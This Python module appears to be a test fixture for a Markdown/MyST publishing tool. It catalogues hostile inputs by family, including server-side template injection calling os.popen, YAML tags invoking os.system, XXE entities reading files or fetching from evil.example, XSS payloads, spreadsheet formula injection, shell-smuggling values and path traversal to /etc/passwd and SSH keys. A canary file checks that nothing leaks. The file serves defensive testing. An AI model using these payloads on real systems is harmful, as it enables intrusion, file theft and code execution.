"""What a hostile file may hold, by family; ``{canary}`` is the path of a file that nothing may open or show."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path

SECRET = "canary-9d41c7: the content of a file outside the project"
"""What the canary file holds."""

TEMPLATES = (
    "{{7*195}}",
    "{{ env.app.config.author }}",
    "{% for x in [1] %}1365{% endfor %}",
    "${7*195}",
    "#{7*195}",
    "<%= 7*195 %>",
    "{{ cycler.__init__.__globals__.os.popen('cat {canary}').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0.__class__.__init__.__globals__}",
    "%(canary)s",
)

DIRECTIVES = (
    "```{include} {canary}\n```",
    "```{include} ../../../../../../../..{canary}\n:literal:\n```",
    "```{literalinclude} {canary}\n```",
    "```{csv-table}\n:file: {canary}\n```",
    "```{raw} html\n:file: {canary}\n```",
    "```{raw} html\n<script>document.title = 1365</script>\n```",
    "```{eval-rst}\n.. include:: {canary}\n```",
    "```{code-cell} python\nopen('{canary}').read()\n```",
    "```{note}\nshown\n```",
    "```{role} raw-html(raw)\n:format: html\n```",
    "```{math}\n\\input{{canary}}\n```",
    "```{glue:} efficacy.response\n```",
    ":::{include} {canary}\n:::",
    ":::{figure} {canary}\n:::",
    "~~~{image} {canary}\n~~~",
    "````{note}\n```{include} {canary}\n```\n````",
    "- ```{include} {canary}\n  ```",
    "[^note]\n\n[^note]: ```{include} {canary}\n    ```",
    "Term\n: ```{include} {canary}\n  ```",
    "```python\nprint(1365)\n```",
    "    open('{canary}').read()",
)

ROLES = (
    "{raw}`<b>`",
    "{download}`words <{canary}>`",
    "{doc}`/index`",
    "{ref}`words <how-to-cite>`",
    "{sub-ref}`today`",
    "{eval}`7*195`",
    "{math}`\\frac{1}{2}`",
    "{command}`id`",
    "{edition-title}`title`",
    "{only-published}`shown`",
    "{cite}`nobody1999`",
    "{cite:p}`source2020,nobody1999`",
    "{cite}`{see}source2020`",
    "{footcite}`source2020`",
    "{claim}`nothing.published`",
    "{claim}`efficacy.response percent and more`",
    "{py:func}`os.system`",
    "**{raw}`<b>`**",
    "| a |\n|---|\n| {download}`{canary}` |",
)

HTML = (
    "<script>document.title = 1365</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    '<img src=x onerror="document.title = 1365">',
    "<svg onload=alert(1365)></svg>",
    "<svg><animate onbegin=alert(1365) attributeName=x dur=1s></svg>",
    '<iframe src="file://{canary}"></iframe>',
    "<style>body { display: none }</style>",
    "<!-- comment -->",
    "<?php echo 1365 ?>",
    "<![CDATA[ 1365 ]]>",
    '<a href="javascript:alert(1365)">words</a>',
    "words <b onmouseover=alert(1365)>bold</b>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<details open ontoggle=alert(1365)>",
)

QUOTES_OF_HTML = (
    '"><script>document.title = 1365</script>',
    "' onmouseover='alert(1365)",
    "--><svg/onload=alert(1365)>",
    "</title><script>document.title = 1365</script>",
    "</script><script>document.title = 1365</script>",
    "]]><script>document.title = 1365</script>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;script&gt;document.title = 1365&lt;/script&gt;",
)

LINKS = (
    "[words](javascript:alert(1365))",
    "[words](JaVaScRiPt:alert(1365))",
    "[words](&#106;avascript:alert(1365))",
    "[words](data:text/html;base64,PHNjcmlwdD4=)",
    "[words](vbscript:msgbox)",
    "[words](file://{canary})",
    "[words]({canary})",
    "[words](../../etc/passwd)",
    "[words](//evil.example)",
    "[words](/\\evil.example)",
    "[words](\\\\evil.example\\share)",
    "[words](https:evil.example)",
    "[words](https:///evil.example)",
    "[words](https://user:secret@evil.example/)",
    "[words](https://ok.example\\@evil.example/)",
    "[words](HTTPS://evil.example)",
    "[words](mailto:a@b.example?bcc=c@d.example)",
    "[words](doi:10.1182/blood?x=//evil.example)",
    "[words](doi:../evil.example)",
    "[words](https://ok.example/%E2%80%AEfdp.exe)",
    "[words](#place)",
    "[words](index.md)",
    "[words](project:index.md)",
    "[words](path:{canary})",
    "[words](inv:*:*:*#x)",
    "<javascript:alert(1365)>",
    "<file://{canary}>",
    "<path:{canary}>",
    "![words]({canary})",
    "![words](https://evil.example/pixel.png)",
    "[words][name]\n\n[name]: javascript:alert(1365)",
    "[words][name]\n\n[name]: //evil.example",
    "[name]: file://{canary}",
    "[source2020]: https://evil.example",
    '[words](https://ok.example){.external onclick="alert(1365)"}',
    '[words](https://ok.example){href="javascript:alert(1365)"}',
    "[words](https://ok.example){.external #id}",
    "[words]{.class}",
    '[words](https://ok.example){onclick="alert(1365)"}',
    "[words](https://ok.example){% nothing %}",
)

OTHER_MARKDOWN = (
    "(name)=",
    "% a comment",
    "+++",
    '{#id .class onclick="alert(1365)"}\nA paragraph.',
    '{onclick="alert(1365)"}\nA paragraph.',
    "---\nmyst: {substitutions: {x: 1365}}\n---",
    "`code`",
    "> a quotation",
    "* * *",
    "$\\frac{1}{2}$",
    "$$x = 1365$$",
    "\\begin{equation}x\\end{equation}",
    "[^unused]: a note",
    "[^n]\n\n[^n]: one\n\n[^n]: two",
    "&#8238;reversed",
    "&ZeroWidthSpace;",
)

FORMULAS = (
    "=1365+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example","words")',
    "+1365+1",
    "-1365+1",
    "@SUM(1365)",
    "=IMPORTXML(CONCAT(1365))",
)

PATHS = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "{canary}",
    "file://{canary}",
    "..\\..\\windows\\win.ini",
    "\\\\evil.example\\share",
    "~/.ssh/id_rsa",
    "CON",
    "|id",
    "$(id)",
    "`id`",
    "; id",
)

YAML_TAGS = (
    "!!python/object/apply:os.system ['id']",
    "!!python/object/new:os.system ['id']",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!binary not-base64!",
    "!include {canary}",
)

XML = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY % e SYSTEM "//evil.example/x.dtd"> %e;]>',
    "&e;",
    '<xi:include href="{canary}" parse="text"/>',
)

MATHTEXT = ("$\\frac{1365}{2}$", "$x$", "$\\undefined$", "a $ b", "$$")

HIDDEN = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;another title\x07",
    "rub\x08out",
    "nul\x00",
    "\x9b31m",
    "left\u202eright",
    "isolated\u2066words",
    "zero\u200bwidth",
    "soft\u00adhyphen",
    "two\u2028lines",
    "mark\ufeff",
    "tag\U000e0041",
)

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "templates": TEMPLATES,
    "directives": DIRECTIVES,
    "roles": ROLES,
    "html": HTML,
    "quotes of html": QUOTES_OF_HTML,
    "links": LINKS,
    "other markdown": OTHER_MARKDOWN,
    "formulas": FORMULAS,
    "paths": PATHS,
    "yaml": YAML_TAGS,
    "xml": XML,
    "mathtext": MATHTEXT,
    "hidden": HIDDEN,
}


def all_strings(canary: Path) -> Iterator[tuple[str, str]]:
    """Go through every string with its family, all with the path of the canary file."""
    for family, strings in FAMILIES.items():
        yield from ((family, planted(string, canary)) for string in strings)


def planted(string: str, canary: Path) -> str:
    """Return a string with the path of the canary file."""
    return string.replace("{canary}", str(canary))


def one_line(string: str) -> str:
    """Return a string as it may be typed into a cell or a field."""
    return " ".join(string.split(" ")).replace("\n", " ").strip()
